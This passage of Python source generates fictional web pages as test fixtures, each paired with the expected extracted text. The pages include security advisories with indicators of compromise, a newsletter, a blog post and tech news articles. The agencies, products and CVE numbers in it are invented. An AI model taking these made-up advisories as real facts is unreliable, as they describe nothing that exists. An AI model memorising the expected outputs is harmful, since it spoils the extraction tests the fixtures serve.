    desc = 'Multiple vulnerabilities in the web-based management interface of Kestrel EdgeOS could allow an unauthenticated, remote attacker to execute arbitrary commands.'
    head = '\n'.join([
        '<meta charset="utf-8">', '<title>%s</title>' % esc(title), '<meta name="description" content="%s">' % attr(desc),
        common_head_links(rng, host, 3), '<meta name="advisory-id" content="KSA-2026-0012">', '<meta name="cve" content="CVE-2026-20418,CVE-2026-20419">',
        '<style>%s</style>' % page_css(rng, N, 650), gtm_snippet('GTM-KSTR01'),
        state_blob('__ADVISORY__', {'id': 'KSA-2026-0012', 'cves': ['CVE-2026-20418', 'CVE-2026-20419'], 'cvss': 9.8, 'products': [
            {'name': p, 'releases': ['7.0', '7.1', '7.2'], 'bugIds': ['KBUG-%d' % rng.randint(70000, 79999) for _ in range(3)]} for p in ['Branch Router 1100', 'Branch Router 2300', 'Secure Gateway 500', 'Virtual Edge']] * 20}),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author=None, language='en', canonical_url=None, blocks=blocks, html=doc('en', head, page),
                layout='Vendor PSIRT advisory: metadata <dl> (id, dates, CVEs, score; not body) above the content, h2/h3 sections, affected-product / CVSS / fixed-release tables, <pre> ACL workaround, revision table (body); legal disclaimer and policy after the content (not body).')


def en_cisa_alert():
    name = 'en_cisa_alert'
    rng = random.Random(name)
    N = Namer('plain', name)
    host = 'www.ncda.example'
    url = 'https://%s/news-events/advisories/aa26-041a' % host
    title = 'Threat Actors Exploit AsterGate Secure Access Vulnerability to Breach Critical Infrastructure Networks'
    pub = utc(2026, 2, 10, 17, 0)
    blocks = [
        ('h', 'Summary'),
        ('p', 'The National Cyber Defense Agency (NCDA) and partner agencies are releasing this joint advisory to warn network defenders that threat actors are actively exploiting CVE-2026-10234, an authentication bypass vulnerability in AsterGate Secure Access appliances, to gain initial access to critical infrastructure networks.'),
        ('p', 'Since at least January 2026, the actors have used this access to deploy web shells, harvest credentials stored on the appliances, and move laterally into internal networks. NCDA has observed activity affecting organizations in the energy, water, healthcare, and transportation sectors.'),
        ('h', 'Actions to take today to mitigate malicious activity:', 3),
        ('ul', ['Upgrade AsterGate Secure Access appliances to version 9.3R5 or 10.2R3 immediately.',
                'Run the vendor\'s integrity checking tool before and after upgrading.',
                'Reset credentials for all accounts that authenticate through the appliance.',
                'Hunt for the indicators of compromise listed in this advisory.']),
        ('h', 'Technical Details'),
        ('p', 'The actors send a crafted POST request to an unauthenticated diagnostic endpoint on the appliance, which allows them to execute commands as root. In observed incidents, the actors then wrote a small Perl web shell to a directory served by the appliance\'s web server, giving them persistent access even after the appliance was rebooted.'),
        ('p', 'Using the web shell, the actors extracted the appliance\'s configuration, which included cached domain credentials and service account passwords. These credentials were then used to log in to internal systems over remote desktop and to create new domain accounts.'),
        ('h', 'Indicators of Compromise', 3),
        ('table', [['Indicator', 'Type', 'Description'],
                   ['/api/v1/diag/ping', 'URI', 'Endpoint targeted by exploit requests'],
                   ['/dana-static/css/help.pl', 'File path', 'Web shell location observed in incidents'],
                   ['203.0.113.87', 'IP address', 'Exploitation source'],
                   ['198.51.100.142', 'IP address', 'Command and control']]),
        ('h', 'MITRE ATT&CK Tactics and Techniques', 3),
        ('table', [['Tactic', 'Technique', 'ID'],
                   ['Initial Access', 'Exploit Public-Facing Application', 'T1190'],
                   ['Persistence', 'Server Software Component: Web Shell', 'T1505.003'],
                   ['Credential Access', 'Unsecured Credentials', 'T1552'],
                   ['Lateral Movement', 'Remote Services: Remote Desktop Protocol', 'T1021.001']]),
        ('h', 'Mitigations'),
        ('p', 'NCDA recommends that organizations implement the following mitigations to reduce the risk of compromise:'),
        ('ol', ['Apply vendor patches for internet-facing appliances within 48 hours of release for vulnerabilities known to be exploited.',
                'Do not store domain administrator credentials on network appliances. Use dedicated service accounts with the least privileges necessary.',
                'Require phishing-resistant multifactor authentication for all remote access.',
                'Forward appliance logs to a centralized logging system so that they are preserved if the appliance is compromised.',
                'If compromise is suspected, factory reset the appliance, apply the patch, and rotate all credentials and certificates stored on it.']),
        ('h', 'Reporting'),
        ('p', 'Organizations are encouraged to report suspicious or criminal activity related to information in this advisory to NCDA via the agency\'s incident reporting portal or by calling the 24/7 operations center.'),
    ]
    body = render(blocks, 'en', h_tag='h2', h3_tag='h3', table_cls='usa-table usa-table--striped', ul_cls='usa-list', ol_cls='usa-list')
    related = ['#StopRansomware: Nightjar Ransomware', 'Known Exploited Vulnerabilities Catalog Update', 'Securing Remote Access Software in OT Environments',
               'Guidance for Small Water Utilities', 'Threat Actors Target Healthcare Help Desks', 'Joint Guidance on Edge Device Hardening']
    page = '''
<body class="path-node page-node-type-advisory">
<section class="usa-banner" aria-label="Official website of the Republic of Example"><div class="usa-accordion"><header class="usa-banner__header"><div class="usa-banner__inner"><div class="grid-col-auto"><img aria-hidden="true" class="usa-banner__header-flag" src="/img/flag.png" alt=""></div><div class="grid-col-fill"><p class="usa-banner__header-text">An official website of the Republic of Example government</p><p class="usa-banner__header-action">Here's how you know</p></div><button type="button" class="usa-accordion__button usa-banner__button" aria-expanded="false"><span class="usa-banner__button-text">Here's how you know</span></button></div></header>
<div class="usa-banner__content usa-accordion__content" hidden><div class="usa-banner__guidance"><p><strong>Official websites use .example</strong><br>A .example website belongs to an official government organization.</p></div><div class="usa-banner__guidance"><p><strong>Secure .example websites use HTTPS</strong><br>A lock or https:// means you've safely connected to the website.</p></div></div></div></section>
<header class="usa-header usa-header--extended"><div class="usa-navbar"><div class="usa-logo"><a href="/" title="Home"><img src="/img/ncda-logo.svg" alt="NCDA"></a></div><button type="button" class="usa-menu-btn">Menu</button></div>
%s</header>
<main id="main" class="main">
<div class="l-full__header"><div class="c-page-title"><div class="c-page-title__inner"><div class="c-page-title__meta"><div class="c-page-title__content-type">Cybersecurity Advisory</div></div>
<h1 class="c-page-title__title"><span>%s</span></h1>
<div class="c-page-title__fields"><div class="c-field c-field--name-field-release-date"><div class="c-field__label">Release Date</div><div class="c-field__content"><time datetime="2026-02-10T12:00:00Z">February 10, 2026</time></div></div><div class="c-field c-field--name-field-alert-code"><div class="c-field__label">Alert Code</div><div class="c-field__content">AA26-041A</div></div></div></div></div></div>
<div class="l-full__main"><div class="l-page-section l-page-section--rich-text"><div class="l-page-section__content">
<div class="c-field c-field--name-body c-field--type-text-with-summary">
%s
</div>
</div></div>
<div class="l-page-section l-page-section--disclaimer"><h2>Disclaimer</h2><p>The information in this report is being provided "as is" for informational purposes only. NCDA does not endorse any commercial entity, product, company, or service, including any entities, products, or services linked within this document.</p></div>
<div class="l-page-section c-product-survey"><h2>Please share your thoughts</h2><p>We recently updated our anonymous product survey; we'd welcome your feedback.</p><a class="usa-button" href="/survey">Take the survey</a></div>
<div class="l-page-section c-related"><h2>Related Advisories</h2><ul>%s</ul></div>
</div>
</main>
<footer class="usa-footer usa-footer--big"><div class="usa-footer__primary-section"><nav class="usa-footer__nav"><ul>%s</ul></nav></div><div class="usa-footer__secondary-section"><p>National Cyber Defense Agency. Protecting the networks that keep the country running.</p></div></footer>
</body>''' % (
        mega_menu(rng, N, 'en'), esc(title), body,
        ''.join('<li class="c-teaser"><a href="/news-events/advisories/aa25-%03da"><span class="c-teaser__title">%s</span></a><span class="c-teaser__date">%s</span></li>' % (rng.randint(100, 360), esc(r), en_date(utc(2025, rng.randint(1, 12), rng.randint(1, 28))))
                for r in related),
        footer_links(rng, 'en'))
    head = '\n'.join([
        '<meta charset="utf-8">', '<title>%s | NCDA</title>' % esc(title),
        '<meta name="description" content="%s">' % attr(blocks[1][1][:160]), common_head_links(rng, host, 4),
        '<meta name="Generator" content="Drupal 10 (https://www.drupal.org)">',
        '<style>%s</style>' % css_blob(rng, ['usa-banner', 'usa-header', 'usa-table', 'usa-list', 'c-page-title', 'c-field', 'l-page-section', 'c-teaser', 'usa-footer', 'usa-button', 'l-full__main'], 800),
        '<script type="application/json" data-drupal-selector="drupal-settings-json">%s</script>' % js({'path': {'baseUrl': '/', 'currentPath': 'node/21877', 'currentLanguage': 'en'}, 'ajaxPageState': {'libraries': ','.join('ncda/%s' % rand_id(rng, 8, 'abcdefghijklmnop') for _ in range(60)), 'theme': 'ncda_uswds'}}),
        '<script async src="https://dap.digitalgov.example/Universal-Federated-Analytics-Min.js?agency=NCDA" id="_fed_an_ua_tag"></script>',
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author=None, language='en', canonical_url=None, blocks=blocks, html=doc('en', head, page),
                layout='Government cyber-defense advisory (USWDS/Drupal): gov banner, page-title fields (release date, alert code), bulleted and numbered lists, IOC and ATT&CK tables; disclaimer, survey and related advisories after the body (not body).')


def en_substack_newsletter():
    name = 'en_substack_newsletter'
    rng = random.Random(name)
    N = Namer('plain', name)
    host = 'thepatchgap.example'
    url = 'https://%s/p/the-quiet-cost-of-end-of-life-appliances' % host

    def sub_box():
        return ('raw', '<div class="subscription-widget-wrap"><div class="subscription-widget show-subscribe"><div class="preamble"><p class="cta-caption">Thanks for reading The Patch Gap! Subscribe for free to receive new posts and support my work.</p></div><form class="subscription-widget-subscribe"><input type="email" class="email-input" name="email" placeholder="Type your email..." tabindex="-1"><input type="submit" class="button primary" value="Subscribe"></form></div></div>')
    title = 'The quiet cost of end-of-life appliances'
    pub = utc(2026, 2, 26, 13, 0)
    blocks = [
        ('p', 'Last week I spent an afternoon on the phone with the IT director of a mid-sized manufacturer. They had just finished cleaning up after an intrusion, and the root cause was depressingly familiar: a VPN appliance that had reached end of life two years earlier and had not received a security update since.'),
        ('p', 'Nobody had decided to keep running an unsupported device. It simply never made it onto anyone\'s list. The appliance worked, the users were happy, and the renewal notice went to an email address that belonged to someone who had left the company.'),
        ('p', 'I want to talk about this problem today, because I think it is one of the most underrated risks in security, and because fixing it is mostly about paperwork rather than technology.'),
        sub_box(),
        ('h', 'Why end-of-life devices linger'),
        ('p', 'In conversations with a dozen or so IT teams over the past year, the same three reasons come up again and again:'),
        ('ol', ['Nobody owns the asset. The person who bought it has moved on, and the device is not in any inventory.',
                'Replacing it requires downtime, and downtime requires a meeting with the business that nobody wants to schedule.',
                'The budget for replacement was never planned, because the end-of-life date was never tracked.']),
        ('p', 'None of these are technical problems. They are organizational ones, and that is exactly why security tools do such a poor job of solving them.'),
        ('h', 'What attackers see'),
        ('p', 'From the other side, end-of-life appliances are a gift. When a vendor publishes an advisory for a supported version, attackers can often work backward from the patch to find the vulnerable code. If an older, unsupported branch shares that code, it stays vulnerable forever.'),
        ('p', 'Internet scanning services make finding these devices trivial. A quick search for the login page of a discontinued VPN model will typically return thousands of results, many of them belonging to small organizations that have no idea they are exposed.'),
        sub_box(),
        ('h', 'A modest proposal'),
        ('p', 'If you do one thing after reading this, make a list of every device that faces the internet and write down its end-of-support date next to it. Put the earliest dates on a calendar that someone other than you will see. That is it.'),
        ('p', 'It is not glamorous, and nobody will give a conference talk about it. But I would bet that it prevents more breaches than the next shiny product you are evaluating.'),
        ('p', 'As always, reply to this email if you have a story to share. I read everything, even if it takes me a while to respond.'),
    ]
    body = render(blocks, 'en', h_tag='h3', h3_tag='h3', h_cls='header-anchor-post')
    cmts = ''.join('<div class="comment"><div class="comment-content"><div class="comment-head"><a class="comment-author">%s</a><a class="comment-date">%s</a></div><div class="comment-body"><p>%s</p></div><div class="comment-actions"><button class="like-button">%s<span class="like-count">%d</span></button><button>Reply</button><button>Share</button></div></div></div>' % (
        esc(rng.choice(EN_NAMES)), 'Feb %d' % rng.randint(26, 28), esc(comment_text(rng, 'en', rng.randint(1, 4))), svg_icon(rng, 'heart', 'ico', 14), rng.randint(0, 40)) for _ in range(18))
    more = [('Your asset inventory is lying to you', 'Why the spreadsheet is always wrong, and what to do about it.'), ('Patch Tuesday is a ritual, not a strategy', 'Risk-based patching for teams with no time.'),
            ('The help desk is your new perimeter', 'Social engineering has moved from email to the phone.'), ('Three questions to ask your MSP', 'And the answers that should worry you.'),
            ('What I learned from 50 incident reports', 'Patterns that keep showing up.'), ('Logging is a budget line, not a checkbox', 'Retention, cost and the breach you cannot investigate.')]
    page = '''
<body>
<div id="entry"><div id="main" class="main typography use-theme-bg">
<div class="main-menu"><div class="topbar"><a href="/" class="navbar-title-link">The Patch Gap</a><div class="navbar-buttons"><button class="button primary subscribe-btn">Subscribe</button><button class="button sign-in-link">Sign in</button></div></div></div>
<div class="container"><div class="single-post-container"><div class="single-post"><div class="post-header">
<h1 class="post-title published">%s</h1>
<h3 class="subtitle">Nobody decides to run unsupported hardware. It just happens.</h3>
<div class="post-meta"><div class="profile-hover-card-target"><a href="/@lenavasquez">Lena Vasquez</a></div><div class="post-date" title="Feb 26, 2026, 8:00 AM">Feb 26, 2026</div></div>
<div class="post-ufi"><button class="like-button">%s<span>214</span></button><button class="post-ufi-comment-button"><span>18</span></button><button class="share-button">Share</button></div>
</div>
<div class="available-content"><div dir="auto" class="body markup">
%s
</div></div>
<div class="subscribe-footer"><div class="subscription-widget-wrap"><p>Thanks for reading The Patch Gap! This post is public so feel free to share it.</p><button class="button primary">Share</button></div></div>
<div class="post-footer"><div class="post-ufi"><button class="like-button">214</button><button>18</button><button>Restack</button><button>Share</button></div></div>
<div class="comments-section"><div class="comments-page"><h4>Discussion about this post</h4><div class="comments-list">%s</div></div></div>
<div class="post-end-cta"><h3>Ready for more?</h3>%s</div>
</div></div>
<div class="portable-archive"><h2>More from The Patch Gap</h2><div class="portable-archive-list">%s</div></div>
</div>
<div class="footer-wrap"><div class="footer"><p>&copy; 2026 Lena Vasquez</p><a href="/privacy">Privacy</a><a href="/tos">Terms</a><a href="/collection-notice">Collection notice</a><p>Start writing. Get the app.</p><p>This newsletter platform is the home for great culture.</p></div></div>
</div></div>
<script>window._preloads = JSON.parse("%s")</script>
</body>''' % (
        esc(title), svg_icon(rng, 'heart'), body, cmts, newsletter_box(N, 'en', 2),
        ''.join('<div class="post-preview"><a class="post-preview-title" href="/p/%s">%s</a><div class="post-preview-description">%s</div><div class="post-preview-meta">Lena Vasquez &middot; %s</div></div>' % (
            rand_id(rng, 10), esc(t), esc(d), 'Jan %d' % rng.randint(1, 30)) for t, d in more),
        js({'base_url': 'https://%s' % host, 'pub': {'name': 'The Patch Gap', 'author_name': 'Lena Vasquez', 'subdomain': 'thepatchgap', 'hero_text': 'Security for teams that have no time for security.'},
            'post': {'id': 140922731, 'title': title, 'slug': 'the-quiet-cost-of-end-of-life-appliances', 'reactions': {'heart': 214}, 'comment_count': 18, 'audience': 'everyone'},
            'recommendations': [{'title': t, 'description': d} for t, d in more] * 5}).replace('\\', '\\\\').replace('"', '\\"'))
    head = '\n'.join([
        '<meta charset="utf-8">', '<title>The quiet cost of end-of-life appliances - by Lena Vasquez</title>', common_head_links(rng, host, 7),
        og_meta(title, 'Nobody decides to run unsupported hardware. It just happens.', url, 'https://cdn.newsletter.example/image/%s.png' % rand_id(rng, 12), 'The Patch Gap', pub=pub, lang='en'),
        '<style>%s</style>' % css_blob(rng, ['body', 'markup', 'post-title', 'subscription-widget', 'subscription-widget-wrap', 'comment', 'comment-body', 'post-preview', 'post-ufi', 'like-button', 'button', 'primary', 'footer', 'topbar', 'header-anchor-post'], 1000),
        jsonld({'@context': 'https://schema.org', '@type': 'NewsArticle', 'url': url, 'mainEntityOfPage': url, 'headline': title, 'description': 'Nobody decides to run unsupported hardware. It just happens.', 'datePublished': iso(pub), 'author': [{'@type': 'Person', 'name': 'Lena Vasquez'}], 'isAccessibleForFree': True}),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author='Lena Vasquez', language='en', canonical_url=None, blocks=blocks, html=doc('en', head, page),
                layout='Newsletter platform post: two subscribe widgets inside the body markup, ordered list, h3 sections, italic sign-off (body), share footer, 18 comments, archive teasers, big escaped JSON preload.')


def en_medium_like():
    name = 'en_medium_like'
    rng = random.Random(name)
    N = Namer('hash', name)
    host = 'medium-ish.example'
    url = 'https://%s/@omar.haddad/what-a-tabletop-exercise-taught-us-about-our-backups-5e1c2a7b9f03' % host
    title = 'What a tabletop exercise taught us about our backups'
    pub = utc(2026, 1, 14, 16, 42)

    def cls():
        return ' '.join(rand_id(rng, 2, 'abcdefghijklmnopqrstuvwxyz') for _ in range(rng.randint(3, 7)))
    blocks = [
        ('raw', '<h1 id="a1b2" class="pw-post-title %s" data-testid="storyTitle">%s</h1>' % (cls(), esc(title))),
        ('raw', '<div class="%s"><div class="%s"><img alt="Omar Haddad" class="%s" src="https://miro.example/1*omar.jpeg" width="44" height="44"><div><a href="/@omar.haddad">Omar Haddad</a><span>Follow</span></div><div><span data-testid="storyReadTime">6 min read</span><span>&middot;</span><span data-testid="storyPublishDate">Jan 14, 2026</span></div></div></div>' % (cls(), cls(), cls())),
        ('p', 'We thought our backups were fine. We had nightly snapshots, an offsite copy, and a dashboard full of green checkmarks. Then we ran a two-hour tabletop exercise, and by the end of it nobody in the room was confident we could restore anything.'),
        ('p', 'This post is a write-up of that exercise, what went wrong, and what we changed afterward. I am sharing it because I suspect a lot of teams are in the same position we were.'),
        ('h', 'The scenario'),
        ('p', 'The facilitator gave us a simple prompt: it is Monday morning, and the file servers and the virtualization cluster are encrypted. The attackers were in the network for ten days before they triggered the encryption. What do you do?'),
        ('p', 'The first twenty minutes went smoothly. We knew who to call, we knew where the incident response plan lived, and we knew how to isolate the network segments. Then the facilitator asked the question that changed the mood: "Which backup do you restore from?"'),
        ('h', 'Problem one: we did not know how far back to go'),
        ('p', 'If the attackers were inside for ten days, any backup from that period might contain their tools or backdoors. Our snapshots were retained for seven days. The offsite copy was weekly, but only the last two weeks were kept. We realized we might have exactly one clean restore point, and we had no way to verify that it was clean.'),
        ('h', 'Problem two: the backup server was on the domain'),
        ('p', 'Our backup server was joined to the same Active Directory domain as everything else, and the backup console used domain credentials. In the scenario, the attackers had domain admin rights. Which meant they could have deleted the backups before encrypting anything, which is exactly what modern ransomware groups do.'),
        ('h', 'Problem three: nobody had ever done a full restore'),
        ('p', 'We had restored individual files plenty of times. But nobody on the team had ever restored an entire server, let alone the whole virtualization cluster. When we estimated the time it would take, the answers ranged from "a day" to "two weeks." That range told us we did not really know.'),
        ('h', 'What we changed'),
        ('ul', ['Moved the backup infrastructure to a separate management domain with its own credentials and hardware security keys.',
                'Added immutable storage for the offsite copy, with 90 days of retention.',
                'Scheduled a full restore test of one critical server every quarter, timed and documented.',
                'Added the backup console to our monitoring so that deletion of restore points raises an alert.']),
        ('p', 'None of this was expensive. The biggest cost was time, and most of that went into the restore tests, which turned out to be the most valuable part. The first test took 31 hours. The most recent one took nine.'),
        ('p', 'If you have never run a tabletop exercise, I highly recommend it. Two hours with the right people in the room will tell you more about your readiness than any audit.'),
    ]
    body = render(blocks, 'en', p_cls='pw-post-body-paragraph ' + cls(), h_tag='h2', h_cls='pw-post-body-paragraph ' + cls(), ul_cls=cls(), li_cls=cls())
    more = [('How we cut our cloud bill by 40% without touching code', 'Omar Haddad'), ('Incident response runbooks nobody reads', 'Omar Haddad'),
            ('The case for boring infrastructure', 'Omar Haddad'), ('Ten lessons from my first year as a security lead', 'Priya Nair'),
            ('Zero trust, explained for your CFO', 'Marcus Lee'), ('I replaced our VPN with an identity-aware proxy. Here is what broke.', 'Ana Costa')]
    page = '''
<body>
<div id="root"><div class="a b c"><div class="%s">
<div class="%s"><nav class="%s"><a href="/" aria-label="Homepage">%s</a><div class="%s"><input placeholder="Search" class="%s"></div><a href="/new-story">Write</a><a href="/m/signin">Sign in</a></nav></div>
<div class="%s"><div class="%s"><article><div class="%s"><section class="%s"><div class="%s"><div class="%s">
%s
</div></div></section></div></article></div>
<div class="%s"><button aria-label="clap">%s<span>1.8K</span></button><button aria-label="responses"><span>27</span></button><button aria-label="Add to list">Save</button><button aria-label="Share">Share</button></div>
<div class="%s"><a href="/tag/cybersecurity">Cybersecurity</a><a href="/tag/backup">Backup</a><a href="/tag/incident-response">Incident Response</a><a href="/tag/devops">DevOps</a></div>
<div class="%s"><img src="https://miro.example/1*omar.jpeg" alt="Omar Haddad" width="72"><h2>Written by Omar Haddad</h2><p>2.3K Followers</p><p>Infrastructure and security lead at a logistics company. I write about the unglamorous parts of keeping systems running.</p><button>Follow</button></div>
<div class="%s"><h2>Responses (27)</h2>%s</div>
<div class="%s"><h2>More from Omar Haddad</h2>%s</div>
<div class="%s"><h2>Recommended from Medium-ish</h2>%s</div>
</div>
</div></div></div>
<script>window.__APOLLO_STATE__ = %s</script>
</body>''' % (
        cls(), cls(), cls(), svg_icon(rng, 'logo', 'ico', 112), cls(), cls(), cls(), cls(), cls(), cls(), cls(), cls(), body,
        cls(), svg_icon(rng, 'clap'), cls(), cls(),
        cls(), ''.join('<div class="%s"><p class="%s">%s</p><p>%s</p><span>%d claps</span></div>' % (cls(), cls(), esc(rng.choice(EN_NAMES)), esc(comment_text(rng, 'en', rng.randint(1, 3))), rng.randint(0, 90)) for _ in range(8)),
        cls(), ''.join('<div class="%s"><h3>%s</h3><p>%s</p></div>' % (cls(), esc(t), esc(a)) for t, a in more[:3]),
        cls(), ''.join('<div class="%s"><h3>%s</h3><p>%s &middot; %d min read</p></div>' % (cls(), esc(t), esc(a), rng.randint(3, 12)) for t, a in more[3:]),
        js({'Post:5e1c2a7b9f03': {'id': '5e1c2a7b9f03', 'title': title, 'clapCount': 1812, 'readingTime': 6.1, 'tags': ['cybersecurity', 'backup']},
            'ROOT_QUERY': {'recommended': [{'title': '%s (%d)' % (t, i), 'subtitle': comment_text(rng, 'en', 1)} for i in range(40) for t in [rng.choice(more)[0]]]}}))
    head = '\n'.join([
        '<meta charset="utf-8">', '<title>%s | by Omar Haddad | Jan, 2026 | Medium-ish</title>' % esc(title), common_head_links(rng, host, 6),
        og_meta(title, blocks[2][1][:140], url, 'https://miro.example/max/1200/1*cover.jpeg', 'Medium-ish', pub=pub, lang='en'),
        '<style type="text/css" data-fela-rehydration="612" data-fela-type="RULE">%s</style>' % css_blob(rng, [rand_id(rng, 2, 'abcdefghijklmnopqrstuvwxyz') for _ in range(300)], 1400),
        '<link rel="author" href="https://%s/@omar.haddad">' % host,
        jsonld({'@context': 'http://schema.org', '@type': 'NewsArticle', 'headline': title, 'datePublished': iso(pub), 'author': {'@type': 'Person', 'name': 'Omar Haddad'}, 'publisher': {'@type': 'Organization', 'name': 'Medium-ish'}}),
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author='Omar Haddad', language='en', canonical_url=None, blocks=blocks, html=doc('en', head, page),
                layout='Blogging platform with atomic 2-letter classes: the title h1 and byline sit inside the same section as the body (not body), h2 sections, list; clap/response bar, author card, responses, more-from and recommended teasers.')


def en_nextjs_jsonld():
    name = 'en_nextjs_jsonld'
    rng = random.Random(name)
    N = Namer('hash', name)
    host = 'www.signalwire-news.example'
    url = 'https://%s/analysis/cobaltwave-breach-help-desk-social-engineering' % host
    title = 'What the Cobaltwave breach tells us about help desk social engineering'
    pub = utc(2026, 3, 3, 11, 30)
    blocks = [
        ('p', 'When Cobaltwave disclosed last week that an attacker had accessed its internal systems, the company was careful to note that no vulnerability had been exploited. That was technically true. The attacker simply called the IT help desk, claimed to be an engineer who had lost his phone, and asked for his multifactor authentication to be reset.'),
        ('p', 'It worked. Within an hour, the attacker had enrolled a new device, logged into the single sign-on portal, and begun browsing internal code repositories.'),
        ('h', 'The weakest link is a process, not a person'),
        ('p', 'It is tempting to blame the help desk agent. But the agent followed the documented procedure, which required the caller to provide an employee ID number and the name of their manager. Both are easy to find for anyone willing to spend twenty minutes on professional networking sites.'),
        ('p', 'Security teams have spent a decade hardening login pages with multifactor authentication, only to leave the recovery process protected by questions that any determined attacker can answer. The reset procedure is, in effect, a second login page with much weaker security.'),
        ('h', 'What better verification looks like'),
        ('p', 'Organizations that have strengthened help desk verification typically combine several measures. Some require a video call in which the employee shows a government-issued ID that is compared with the photo in the HR system. Others require approval from the employee\'s manager through a separate channel before any reset is performed.'),
        ('p', 'The most robust approach removes the help desk from the process entirely: employees who lose their device must visit an office in person or use a pre-registered backup security key. That is inconvenient, but inconvenience is the point.'),
        ('h', 'A broader trend'),
        ('p', 'Cobaltwave is not an outlier. Help desk social engineering has been behind several of the most damaging intrusions of the past three years, and the groups responsible share techniques openly in criminal forums. Until organizations treat account recovery as seriously as they treat login, these attacks will keep working.'),
    ]
    body_text = expected_text(blocks)
    nd_blocks = [{'type': 'heading' if b[0] == 'h' else 'paragraph', 'text': b[1], 'key': rand_id(rng, 8)} for b in blocks]
    heads = en_headlines(rng, 16, 0.0)
    nd = {'props': {'pageProps': {'article': {'id': 'art_8f21c0', 'slug': 'cobaltwave-breach-help-desk-social-engineering', 'headline': title,
                                              'dek': 'The attacker did not need an exploit. He needed a phone number and twenty minutes of research.',
                                              'byline': [{'name': 'Rachel Osei', 'slug': 'rachel-osei'}], 'publishedAt': iso(pub), 'section': 'Analysis',
                                              'body': nd_blocks, 'tags': ['social engineering', 'identity', 'help desk']},
                                  'related': [{'title': t, 'summary': s, 'slug': sl} for t, s, sl in heads], '__N_SSG': True}},
          'page': '/analysis/[slug]', 'query': {'slug': 'cobaltwave-breach-help-desk-social-engineering'}, 'buildId': 'Jt8kQ2v_ZfRm1xP0aY3bC', 'isFallback': False, 'gsp': True, 'scriptLoader': []}
    page = '''
<body>
<div id="__next"><div class="%s">
<header class="%s"><a href="/" class="%s">SignalWire</a><nav class="%s"><a href="/news">News</a><a href="/analysis">Analysis</a><a href="/podcast">Podcast</a><a href="/events">Events</a></nav></header>
<main class="%s">
<article class="%s">
<p class="%s">Analysis</p>
<h1 class="%s">%s</h1>
<p class="%s">The attacker did not need an exploit. He needed a phone number and twenty minutes of research.</p>
<div class="%s"><span>By Rachel Osei</span><time datetime="%s">March 3, 2026</time></div>
<div class="%s" aria-busy="true"><div class="%s"></div><div class="%s"></div><div class="%s"></div><noscript>Please enable JavaScript to read this article.</noscript></div>
</article>
</main>
<footer class="%s"><p>&copy; 2026 SignalWire Media</p></footer>
</div></div>
<script id="__NEXT_DATA__" type="application/json">%s</script>
<script src="/_next/static/chunks/webpack-%s.js" defer></script>
<script src="/_next/static/chunks/framework-%s.js" defer></script>
<script src="/_next/static/chunks/main-%s.js" defer></script>
<script src="/_next/static/chunks/pages/_app-%s.js" defer></script>
<script src="/_next/static/chunks/pages/analysis/%%5Bslug%%5D-%s.js" defer></script>
<script src="/_next/static/Jt8kQ2v_ZfRm1xP0aY3bC/_buildManifest.js" defer></script>
</body>''' % (
        N('layout'), N('header'), N('header', 'logo'), N('header', 'nav'), N('main'), N('article'), N('article', 'kicker'),
        N('article', 'headline'), esc(title), N('article', 'dek'), N('article', 'byline'), iso(pub),
        N('article-body', 'skeleton'), N('skeleton', 'line'), N('skeleton', 'line'), N('skeleton', 'line'), N('footer'),
        js(nd), rand_id(rng, 16), rand_id(rng, 16), rand_id(rng, 16), rand_id(rng, 16), rand_id(rng, 16))
    chunk = '(self.webpackChunk_N_E=self.webpackChunk_N_E||[]).push([[%d],{%s}]);' % (rng.randint(100, 999), ','.join(
        '%d:function(e,t,n){"use strict";n.d(t,{Z:function(){return %s}});var r=n(%d),o=n.n(r);function %s(e){var t=e.%s;return o().createElement("div",{className:"%s"},t)}}' % (
            rng.randint(1000, 99999), 'c' + rand_id(rng, 3, 'abcdef'), rng.randint(1000, 9999), 'c' + rand_id(rng, 3, 'abcdef'), rand_id(rng, 5, 'abcdefghijklmnopqrstuvwxyz'), N('x', rand_id(rng, 4, 'abcdefghij'))) for _ in range(260)))
    head = '\n'.join([
        '<meta charset="utf-8">', '<meta name="viewport" content="width=device-width">', '<title>%s | SignalWire</title>' % esc(title),
        '<meta name="description" content="The attacker did not need an exploit. He needed a phone number and twenty minutes of research.">',
        '<link rel="canonical" href="%s">' % url,
        og_meta(title, 'The attacker did not need an exploit.', url, 'https://%s/og/cobaltwave.png' % host, 'SignalWire', pub=pub, lang='en'),
        news_ld(title, url, pub, author='Rachel Osei', publisher='SignalWire', logo='https://%s/logo.png' % host, body=body_text, section='Analysis'),
        '<link rel="preload" href="/_next/static/css/%s.css" as="style">' % rand_id(rng, 16),
        '<style data-n-href="/_next/static/css/app.css">%s</style>' % page_css(rng, N, 500),
        '<script>%s</script>' % chunk,
    ])
    return dict(name=name, url=url, content_type=None, encoding='UTF-8', title=title, published=pub,
                author='Rachel Osei', language='en', canonical_url=url, blocks=blocks, html=doc('en', head, page),
                layout='Next.js client-rendered article: HTML has only header, h1, dek, byline and a skeleton; the body exists only in JSON-LD articleBody (paragraphs joined by blank lines) and in __NEXT_DATA__ as typed blocks.')


def en_amp_page():
    name = 'en_amp_page'
    rng = random.Random(name)
    N = Namer('plain', name)
    host = 'amp.dailybyte.example'
    url = 'https://%s/2026/02/04/quillfeather-bank-qr-code-letters/amp/' % host
    canon = 'https://www.dailybyte.example/2026/02/04/quillfeather-bank-qr-code-letters/'
    title = 'Quillfeather Bank customers targeted by fake letters with QR codes'
    pub = tz(2026, 2, 4, 7, 15, -8)
    blocks = [
        ('p', 'Customers of Quillfeather Bank are receiving official-looking paper letters that ask them to scan a QR code to "verify account details," in a phishing campaign that the bank says has reached several thousand households.'),
        ('p', 'The letters use the bank\'s logo and a return address that matches a real branch. They claim that new regulations require customers to confirm their identity within 14 days or risk having their accounts frozen.'),
        ('raw', '<amp-img src="https://%s/img/qr-letter.jpg" width="1200" height="800" layout="responsive" alt="A copy of the fraudulent letter"></amp-img><p class="caption">A copy of one of the letters, with personal details removed. (Photo courtesy of a reader)</p>' % host),
        ('p', 'Scanning the QR code leads to a website that mimics the bank\'s online banking login page. Victims who enter their credentials are then asked for the one-time code sent to their phone, which the attackers use to log into the real account in real time.'),
        ('h', 'Why paper works'),
